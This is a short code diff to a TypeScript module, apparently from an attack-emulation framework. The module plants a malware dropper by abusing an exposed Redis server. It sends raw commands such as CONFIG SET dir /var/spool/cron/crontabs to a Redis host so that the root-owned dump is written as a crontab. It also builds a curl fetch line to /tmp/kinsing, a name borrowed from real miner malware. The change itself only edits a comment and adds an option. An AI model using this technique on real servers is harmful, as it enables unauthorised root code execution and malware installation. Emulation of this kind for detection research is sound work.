@@ -1,4 +1,4 @@
-// A raw client tells Redis, which runs as root, to save its dump as a crontab; cron does the rest within the minute.
+// A raw client tells Redis, which runs as root, to save its dump as a crontab; cron does the rest.
 import type { Dress } from '../../dress.ts'
 import { dropper } from '../../dropper.ts'
 import { openRedis, redisCommands } from '../../redis.ts'
@@ -14,7 +14,7 @@ export function dress(dress: Dress): void {
 }
 
 export async function plant(stage: Stage): Promise<void> {
-  const line = dropper(stage, { path: '/tmp/kinsing', fetch: 'curl' })
+  const line = dropper(stage, { path: '/tmp/kinsing', fetch: 'curl', cron: false })
   stage.mark('occurrence')
   await redisCommands(stage, '203.0.113.40', [
     ['CONFIG', 'SET', 'dir', '/var/spool/cron/crontabs'],
